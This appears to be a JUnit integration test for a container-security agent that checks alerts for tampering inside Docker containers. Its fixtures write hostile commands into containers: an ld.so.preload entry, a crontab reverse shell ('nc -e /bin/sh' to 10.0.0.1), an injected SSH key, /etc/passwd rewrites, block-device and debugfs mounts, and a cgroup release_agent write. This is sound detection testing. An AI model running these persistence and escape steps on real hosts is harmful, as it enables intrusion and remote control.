package dev.dockward.agent.it;

import static dev.dockward.agent.it.Records.parse;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.dockward.agent.config.AgentConfig;
import dev.dockward.agent.ship.OutputFormat;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import java.util.function.Predicate;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Tampering with a container from inside it, for real on dockerd (vfs storage driver here):
 * persistence written into the container's own file system, and block devices and debugfs mounted
 * in it. Each attack raises its rule on the attacking container and on no other.
 */
@Tag("integration")
class ContainerTamperingIT {
  private static final Duration DEADLINE = Duration.ofSeconds(60);
  private static final List<String> NO_NETWORK = List.of("--network=none");

  @RegisterExtension final AgentUnderTest harness = new AgentUnderTest();
  private final DockerCli docker = harness.docker();
  private final LineCapture stdout = harness.stdout();
  private final List<Map<String, Object>> parsed = new ArrayList<>();

  @TempDir Path journalDir;

  /**
   * The agent with netlink on, the /proc rescan off, events printed too, every alert printed (no
   * dedupe).
   */
  private void startAgent() throws Exception {
    AgentConfig config =
        AgentUnderTest.config(journalDir)
            .withAlerts(new AgentConfig.Alerts(Duration.ofSeconds(0), null))
            .withSources(
                new AgentConfig.Sources(
                    new AgentConfig.ProcScan(false, null),
                    null,
                    new AgentConfig.Cgroup(false, null),
                    new AgentConfig.Netlink(true)))
            .withSinks(
                new AgentConfig.Sinks(
                    new AgentConfig.Stdout(AgentConfig.StdoutMode.AUTO, OutputFormat.JSONL, true),
                    null));
    harness.start(config, Records.bundledRules());
  }

  @SuppressWarnings("unchecked")
  private static Map<String, Object> object(Object o) {
    return o instanceof Map ? (Map<String, Object>) o : Map.of();
  }

  private static String containerId(Map<String, Object> r) {
    return String.valueOf(object(r.get("container")).getOrDefault("id", ""));
  }

  private static boolean isEvent(Map<String, Object> r, String type, String id) {
    return "event".equals(r.get("kind")) && type.equals(r.get("type")) && id.equals(containerId(r));
  }

  private static boolean isAlert(Map<String, Object> r, String rule, String id) {
    return "alert".equals(r.get("kind")) && rule.equals(r.get("rule")) && id.equals(containerId(r));
  }

  private synchronized List<Map<String, Object>> records() {
    List<String> lines = stdout.lines();
    for (int i = parsed.size(); i < lines.size(); i++) {
      parsed.add(parse(lines.get(i)));
    }
    return List.copyOf(parsed);
  }

  /** The first record that {@code match} accepts, polled until the deadline. */
  private Map<String, Object> await(Predicate<Map<String, Object>> match, String what) {
    long end = System.nanoTime() + DEADLINE.toNanos();
    while (true) {
      List<Map<String, Object>> all = records();
      for (int i = 0; i < all.size(); i++) {
        if (match.test(all.get(i))) {
          System.err.println(
              what
                  + ": "
                  + stdout.lines().get(i)); // the line as printed: fixtures are taken from it
          return all.get(i);
        }
      }
      if (System.nanoTime() > end) {
        throw new AssertionError(
            "not within "
                + DEADLINE
                + ": "
                + what
                + "; records: "
                + records().stream()
                    .map(
                        r ->
                            r.get("kind")
                                + "/"
                                + r.getOrDefault("type", r.get("rule"))
                                + "/"
                                + containerId(r))
                    .toList());
      }
      LockSupport.parkNanos(Duration.ofMillis(100).toNanos());
    }
  }

  private String start(String base, List<String> options, String... command) throws Exception {
    String id = docker.runDetached(DockerCli.uniqueName("h-covsense-" + base), options, command);
    await(r -> isEvent(r, "container_start", id), "container_start of " + base);
    return id;
  }

  private List<String> ownWrites(String id) {
    return records().stream()
        .filter(r -> isEvent(r, "container_file_write", id))
        .map(r -> String.valueOf(object(r.get("container_file_write")).get("path")))
        .toList();
  }

  @Test
  void persistenceWrittenIntoTheContainersOwnFilesRaisesItsRulesOnThatContainerOnly()
      throws Exception {
    startAgent();
    String bystander = start("bystander", NO_NETWORK, "sleep", "300");
    String id = start("persist", NO_NETWORK, "sleep", "300");
    // A preload entry, a crontab, an SSH key; a scratch file that does not matter; /etc/passwd
    // rewritten 50 times; then a marker written last: the watch reads one queue in order, so once
    // the marker is reported everything before it was judged. The shell lives on a second so
    // that it is read as the writer.
    docker.docker(
        "exec",
        id,
        "sh",
        "-c",
        "echo /tmp/evil.so > /etc/ld.so.preload;"
            + " mkdir -p /etc/crontabs /root/.ssh; echo '* * * * * nc -e /bin/sh 10.0.0.1 4444' > /etc/crontabs/root;"
            + " echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys; echo scratch > /tmp/scratch;"
            + " i=0; while [ $i -lt 50 ]; do echo \"u$i:x:0:0::/:/bin/sh\" > /etc/passwd; i=$((i+1)); done;"
            + " echo done > /etc/zz-marker; sleep 1");

    await(
        r ->
            isEvent(r, "container_file_write", id)
                && "/etc/ld.so.preload".equals(object(r.get("container_file_write")).get("path")),
        "preload write");
    Map<String, Object> preload =
        await(r -> isAlert(r, "container_loader_preload_write", id), "preload alert");
    assertEquals("critical", preload.get("severity"));
    Map<String, Object> evidence = object(preload.get("evidence"));
    assertEquals("/etc/ld.so.preload", evidence.get("path"));
    // the writer named: the shell that wrote it (busybox's sh, comm "sh" or "exe"), with its pid
    assertTrue(
        String.valueOf(evidence.get("writer")).matches("(sh|exe) \\(pid [1-9][0-9]*\\)"),
        preload.toString());
    assertTrue(
        String.valueOf(evidence.get("cmdline")).contains("ld.so.preload"), preload.toString());

    Map<String, Object> cron =
        await(
            r ->
                isAlert(r, "container_persistence_write", id)
                    && "/etc/crontabs/root".equals(object(r.get("evidence")).get("path")),
            "crontab alert");
    assertEquals("high", cron.get("severity"));
    assertEquals("cron", object(cron.get("evidence")).get("category"));
    await(
        r ->
            isAlert(r, "container_persistence_write", id)
                && "/root/.ssh/authorized_keys".equals(object(r.get("evidence")).get("path")),
        "authorized_keys alert");
    await(
        r ->
            isEvent(r, "container_file_write", id)
                && "/etc/zz-marker".equals(object(r.get("container_file_write")).get("path")),
        "the marker's write");

    List<String> writes = ownWrites(id);
    assertEquals(
        1,
        writes.stream().filter("/etc/passwd"::equals).count(),
        "50 rewrites, one event: " + writes);
    assertTrue(
        writes.stream().noneMatch(p -> p.startsWith("/tmp/")),
        "a scratch file is no event: " + writes);
    assertTrue(
        records().stream()
            .noneMatch(r -> "alert".equals(r.get("kind")) && bystander.equals(containerId(r))),
        "nothing about the bystander");
  }

  @Test
  void aHostDiskGivenToAContainerAndMountedThereAndDebugfsRaiseTheirRulesOnThatContainerOnly()
      throws Exception {
    Path image = Files.createTempFile(journalDir, "disk", ".img");
    run("truncate", "-s", "8M", image.toString());
    run("mkfs.ext2", "-q", "-F", image.toString());
    String loop = run("losetup", "-f", "--show", image.toString());
    try {
      startAgent();
      // A bystander with the host's root bound: the host's disk mounts come along, none of its
      // doing.
      String bystander =
          start("hostroot", List.of("--network=none", "-v", "/:/host:ro"), "sleep", "300");
      String id =
          start(
              "disk",
              List.of("--network=none", "--cap-add", "SYS_ADMIN", "--device", loop + ":/dev/xdisk"),
              "sleep",
              "300");
      Map<String, Object> given =
          await(r -> isAlert(r, "device_mapped_into_container", id), "device alert");
      assertEquals("high", given.get("severity"));
      assertEquals(
          List.of(loop + " -> /dev/xdisk (rwm)"), object(given.get("evidence")).get("devices"));

      docker.docker(
          "exec",
          id,
          "sh",
          "-c",
          "mkdir -p /mnt/d /mnt/dbg && mount /dev/xdisk /mnt/d"
              + " && mount -t debugfs none /mnt/dbg");
      for (String point : List.of("/mnt/d", "/mnt/dbg")) {
        await(
            r ->
                isEvent(r, "container_mount", id)
                    && point.equals(object(r.get("mount")).get("mount_point")),
            "container_mount at " + point);
      }
      Map<String, Object> disk =
          await(r -> isAlert(r, "block_device_mount_in_container", id), "disk mount alert");
      assertEquals("critical", disk.get("severity"));
      Map<String, Object> evidence = object(disk.get("evidence"));
      assertEquals("/dev/xdisk", evidence.get("device"));
      assertEquals(deviceNumber(loop), evidence.get("device_number"));
      assertEquals("/mnt/d", evidence.get("mount_point"));
      assertEquals("ext2", evidence.get("fs_type"));
      Map<String, Object> debugfs =
          await(r -> isAlert(r, "debugfs_mount_in_container", id), "debugfs alert");
      assertEquals("/mnt/dbg", object(debugfs.get("evidence")).get("mount_point"));
      // neither mount was taken for a cgroup mount
      assertTrue(records().stream().noneMatch(r -> isAlert(r, "cgroup_mount_in_container", id)));
      for (String rule :
          List.of(
              "block_device_mount_in_container",
              "debugfs_mount_in_container",
              "cgroup_mount_in_container",
              "device_mapped_into_container")) {
        assertTrue(
            records().stream().noneMatch(r -> isAlert(r, rule, bystander)),
            rule + " on the bystander");
      }
    } finally {
      docker.removeAll(); // unmounts the disk with the container's mount namespace
      run("losetup", "-d", loop);
    }
  }

  @Test
  void aReleaseAgentWrittenInAHierarchyTwoContainersMountNamesOnlyTheWriter() throws Exception {
    String unavailable = netClsUnavailableReason();
    Assumptions.assumeTrue(unavailable.isEmpty(), "host assumption not met: " + unavailable);
    startAgent();
    List<String> options =
        List.of(
            "--network=none",
            "--cap-add",
            "SYS_ADMIN",
            "--security-opt",
            "seccomp=unconfined",
            "--security-opt",
            "apparmor=unconfined");
    String writer = start("agent-writer", options, "sleep", "300");
    String other = start("agent-other", options, "sleep", "300");
    // net_cls is mounted nowhere on the host: both containers mount the same hierarchy, one file
    // system.
    Path releaseAgent = Path.of("/proc/" + docker.initPid(writer) + "/root/tmp/cgrp/release_agent");
    try {
      for (String id : List.of(writer, other)) {
        docker.docker(
            "exec",
            id,
            "sh",
            "-c",
            "mkdir -p /tmp/cgrp && mount -t cgroup -o net_cls cgroup /tmp/cgrp");
        await(
            r -> isAlert(r, "cgroup_mount_in_container", id),
            "cgroup mount of " + id); // read once since
      }
      // The shell writes, then forks a sleep (the trailing command keeps it from exec'ing it): it
      // is read as sh.
      docker.docker(
          "exec",
          writer,
          "sh",
          "-c",
          "echo /nonexistent-covsense-a > /tmp/cgrp/release_agent; sleep 1; true");
      Map<String, Object> alert =
          await(r -> isAlert(r, "cgroup_release_agent_write", writer), "release agent alert");
      assertEquals("/nonexistent-covsense-a", object(alert.get("evidence")).get("current"));
      assertEquals("sh", object(alert.get("process")).get("program"), alert.toString());
      // A later change by a host process (this test): in a later pass, and it names no container.
      Files.writeString(releaseAgent, "/nonexistent-covsense-host\n");
      Map<String, Object> host =
          await(
              r ->
                  "host_file_change".equals(r.get("type"))
                      && "/nonexistent-covsense-host".equals(object(r.get("file")).get("current")),
              "the host's change");
      assertEquals("", containerId(host), host.toString());
      List<String> named =
          records().stream()
              .filter(
                  r ->
                      "host_file_change".equals(r.get("type"))
                          && "/nonexistent-covsense-a".equals(object(r.get("file")).get("current")))
              .map(ContainerTamperingIT::containerId)
              .toList();
      assertEquals(List.of(writer), named, "one change, one event, the writer's container");
      assertTrue(
          records().stream().noneMatch(r -> isAlert(r, "cgroup_release_agent_write", other)),
          "nothing on the other");
    } finally {
      // The hierarchy outlives the containers while mounted: leave it as it was.
      if (Files.exists(releaseAgent)) {
        Files.writeString(releaseAgent, "\n");
      }
      for (String id : List.of(writer, other)) {
        docker.docker("exec", id, "sh", "-c", "umount /tmp/cgrp; exit 0");
      }
    }
  }

  @Test
  void aPacketSocketInAContainerRaisesItsRuleOnThatContainerOnly() throws Exception {
    startAgent();
    String bystander = start("quiet", NO_NETWORK, "sleep", "300");
    String id = start("sniffer", NO_NETWORK, "sleep", "300");
    // busybox's DHCP client opens a packet socket; on lo it broadcasts to nobody, for 30 s at most
    docker.docker(
        "exec", "-d", id, "/bin/busybox", "udhcpc", "-i", "lo", "-f", "-n", "-t", "30", "-T", "1");
    await(r -> isEvent(r, "packet_socket", id), "packet_socket event");
    Map<String, Object> alert =
        await(r -> isAlert(r, "packet_socket_in_container", id), "packet socket alert");
    assertEquals("medium", alert.get("severity"));
    assertEquals("udhcpc", object(alert.get("process")).get("program"), alert.toString());
    assertEquals("dgram", object(alert.get("evidence")).get("type"));
    assertTrue(
        records().stream().noneMatch(r -> isEvent(r, "packet_socket", bystander)),
        "nothing in the bystander");
    // What the watch pays per container and pass: one read of the namespace's table (printed, not
    // judged).
    Path table = Path.of("/proc/" + docker.initPid(id) + "/net/packet");
    int reads = 2000;
    long start = System.nanoTime();
    for (int i = 0; i < reads; i++) {
      Files.readString(table);
    }
    System.err.printf(
        "net/packet read: %.1f us each over %d reads%n",
        (System.nanoTime() - start) / 1e3 / reads, reads);
  }

  /**
   * Whether containers can get a net_cls hierarchy the host does not share: the kernel has the
   * cgroup v1 net_cls controller enabled and the host has it mounted nowhere.
   */
  private static String netClsUnavailableReason() throws Exception {
    boolean enabled =
        Files.readAllLines(Path.of("/proc/cgroups")).stream()
            .map(l -> l.split("\\s+"))
            .anyMatch(f -> f.length >= 4 && f[0].equals("net_cls") && f[3].equals("1"));
    if (!enabled) {
      return "the kernel has no enabled cgroup v1 net_cls controller (/proc/cgroups)";
    }
    boolean mounted =
        Files.readAllLines(Path.of("/proc/self/mountinfo")).stream()
            .anyMatch(l -> l.contains(" - cgroup ") && l.matches(".*[ ,]net_cls([, ].*|$)"));
    return mounted
        ? "the host mounts the net_cls hierarchy: the test's release_agent would be the host's"
        : "";
  }

  /** The {@code major:minor} of a block device, from sysfs. */
  private static String deviceNumber(String device) throws Exception {
    return Files.readString(
            Path.of("/sys/class/block", Path.of(device).getFileName().toString(), "dev"))
        .strip();
  }

  /** Runs a host command the test needs; returns its trimmed output, fails on a non-zero exit. */
  private static String run(String... command) throws Exception {
    Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
    if (!p.waitFor(60, TimeUnit.SECONDS) || p.exitValue() != 0) {
      throw new AssertionError(List.of(command) + " failed: " + out);
    }
    return out;
  }

  @Test
  void aContainerThatWritesThePreloadListTheMomentItStartsIsCaught() throws Exception {
    startAgent();
    // Not waited for: the write may come before Docker announced the container.
    String id =
        docker.runDetached(
            DockerCli.uniqueName("h-covsense-early"),
            NO_NETWORK,
            "sh",
            "-c",
            "echo /tmp/evil.so > /etc/ld.so.preload; sleep 2");
    Map<String, Object> alert =
        await(r -> isAlert(r, "container_loader_preload_write", id), "preload alert");
    assertEquals("/etc/ld.so.preload", object(alert.get("evidence")).get("path"));
  }
}
